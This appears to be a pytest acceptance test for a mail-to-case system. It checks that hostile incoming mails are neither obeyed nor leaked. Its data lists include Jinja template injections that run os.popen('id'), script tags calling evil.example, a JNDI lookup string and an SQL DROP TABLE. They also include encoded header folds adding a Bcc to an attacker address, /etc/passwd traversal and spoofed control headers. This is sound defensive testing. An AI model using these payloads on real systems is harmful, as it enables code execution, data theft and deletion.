"""What mails carry to act somewhere else: in our heads, templates, pages, files and commands."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.acceptance.site import ALIAS, write_mail
from tests.attacks.stage import ERIN, EVE, RIYA, Row, Stage, find_accepted, find_leaks, find_lost

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.servers
CLOSE = "#close outcome: resolved resolution: nothing to do"

_WORDS = {
    "template": "{{ 'JINJA' ~ 7*7 }}",
    "template block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "template config": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "script": "<script>fetch('https://evil.example')</script>",
    "picture": "<img src=https://evil.example/p.gif onerror=alert(1)>",
    "frame": "<iframe src=https://evil.example></iframe>",
    "closing tag": "</pre></div></body></html><svg onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "formula": '=HYPERLINK("https://evil.example","x")',
    "table": "'; DROP TABLE cases;--",
    "bidi": "\u202egnp.exe\u202c",
    "log line": "x 2026-11-24 [info] case_closed case=all",
    "format": "%s%s%n {0.__class__} ${jndi:ldap://evil.example}",
}
_FOLDS = {
    "encoded Bcc": "=?utf-8?q?x=0D=0ABcc:_eve=40evil.example?=",
    "encoded body": "=?utf-8?q?x=0D=0A=0D=0A<script>alert(1)</script>?=",
    "encoded base64": "=?utf-8?b?eA0KQmNjOiBldmVAZXZpbC5leGFtcGxl?=",
    "line separator": "=?utf-8?q?x=E2=80=A8Bcc:_eve=40evil.example?=",
    "next line": "=?utf-8?q?x=C2=85Bcc:_eve=40evil.example?=",
    "nul": "=?utf-8?q?x=00y?=",
    "bare return": "=?utf-8?q?x=0DBcc:_eve=40evil.example?=",
    "folded": "x\r\n Bcc: eve@evil.example",
    "odd charset": "=?unicode-1-1-utf-7?q?+AA0-+AAo-Bcc:?=",
    "broken word": "=?utf-8?b?====?= =?x?z?y?=",
}
_FILES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\evil.pdf",
    "/etc/cron.d/evil",
    "CON.pdf",
    "a.pdf\u202efdp.exe",
    "x" * 400 + ".pdf",
    "a;b|c`id`.pdf",
    "<script>alert(1)<.pdf",
    "{{ 'JINJA' ~ 7*7 }}.pdf",
)
_CONTROLS = (
    "X-Mailflow-Command: close",
    "X-Mailflow-Case: all",
    "X-Mailflow-Verified: yes",
    "X-MS-Exchange-Organization-AuthAs: Internal",
    "X-Priority: 1",
    "Bcc: eve@evil.example",
    "Resent-From: dana.lead@acme.example",
    "Disposition-Notification-To: eve@evil.example",
    "Return-Receipt-To: eve@evil.example",
    "Reply-To: eve@evil.example",
    "Errors-To: eve@evil.example",
    "List-Unsubscribe: <https://evil.example>",
)


def words_everywhere() -> Iterator[Row]:
    """The same words in the text, in the page, in the subject and in the name."""
    for name, words in _WORDS.items():
        yield Row(f"{name} in the text", write_mail(RIYA, f"Text {name}", words))
        page = f"<html><body><p>{name} {words}</p></body></html>"
        yield Row(f"{name} in the page", write_mail(RIYA, f"Page {name}", "", html=page))
        raw = write_mail(RIYA, "SUBJECT", f"Subject {name}")
        flat = words.encode("ascii", "ignore")
        yield Row(f"{name} in the subject", raw.replace(b"SUBJECT", flat))


def folds() -> Iterator[Row]:
    for name, value in _FOLDS.items():
        raw = write_mail(RIYA, "SUBJECT", f"Fold {name}")
        yield Row(f"{name} in the subject", raw.replace(b"SUBJECT", value.encode()))
        raw = write_mail(EVE, "Name", f"Name {name}")
        shown = f"From: {value} <{EVE}>".encode()
        yield Row(f"{name} in the name", raw.replace(f"From: {EVE}".encode(), shown))
    for name, value in {
        "id with a fold": "<a@b.example>\r\n Bcc: eve@evil.example",
        "id with a script": "<<script>alert(1)</script>@evil.example>",
        "endless id": f"<{'a' * 3000}@evil.example>",
    }.items():
        raw = write_mail(RIYA, "Id", f"Id {name}", message_id="<PLACE@x.example>")
        yield Row(name, raw.replace(b"<PLACE@x.example>", value.encode()))


def files() -> Iterator[Row]:
    for name in _FILES:
        raw = write_mail(RIYA, "File", f"File {name!r}", attach=(name, b"%PDF-1.4 x"))
        yield Row(f"file {name[:30]!r}", raw)


def controls() -> Iterator[Row]:
    for line in _CONTROLS:
        raw = write_mail(EVE, f"Control {line.partition(':')[0]}", CLOSE)
        yield Row(line, line.encode() + b"\r\n" + raw)


def commands_out_of_place(stage: Stage) -> Iterator[Row]:
    """From the owner, at the owner's own address: a note at most, never a command."""
    owner, to = stage.pay.case.owner, stage.note_address
    hidden = f"<html><body><p>Look.</p><div style='display:none'>{CLOSE}</div></body></html>"
    texts = {
        "quoted": (f"Look.\n\n> {CLOSE}", None),
        "below a separator": (f"Look.\n\n-----Original Message-----\nFrom: x\n\n{CLOSE}", None),
        "below the greeting": (f"Dear Riya,\n\n{CLOSE}", None),
        "indented": (f" {CLOSE}\nLook.", None),
        "full width": (f"\uff03close outcome: resolved\n{CLOSE[1:]}", None),
        "hidden in the page": ("", hidden),
        "another in the page": (f"{CLOSE}\n", "<html><body><p>Nothing to do.</p></body></html>"),
    }
    may = frozenset({"note", "reply", "command"})
    for name, (text, html) in texts.items():
        yield Row(name, write_mail(owner, f"Re: {name}", text, to=to, html=html), may=may)
    raw = write_mail(owner, "Report", f"{CLOSE}\n", to=to)
    yield Row("by a machine", b"Auto-Submitted: auto-generated\r\n" + raw)
    raw = write_mail(owner, "Attached", "Look.", to=to, attach=("c.txt", CLOSE.encode()))
    yield Row("in a file", raw, may=may)


def test_nothing_that_a_mail_carries_acts_anywhere(stage: Stage) -> None:
    honest = [
        Row(
            f"honest {n}",
            write_mail(RIYA, f"Parking {n}", f"Where may I park? {n}"),
            is_honest=True,
        )
        for n in range(15)
    ]
    hostile = [
        *commands_out_of_place(stage),
        *words_everywhere(),
        *folds(),
        *files(),
        *controls(),
    ]
    rows = [row for pair in zip(honest, hostile, strict=False) for row in pair]
    rows += hostile[len(honest) :]
    assert len(hostile) >= 74
    assert len({row.name for row in rows}) == len(rows)

    became = stage.run(rows)

    assert len(became) == len(rows)
    assert find_accepted(stage, rows, became) == []
    assert find_lost(rows, became) == []
    assert find_leaks(stage, insiders=(RIYA, ERIN, EVE)) == []
    fate = dict(zip((row.name for row in rows), became, strict=True))
    assert {fate[row.name] for row in honest} == {"case"}
    assert ALIAS not in stage.site.told()
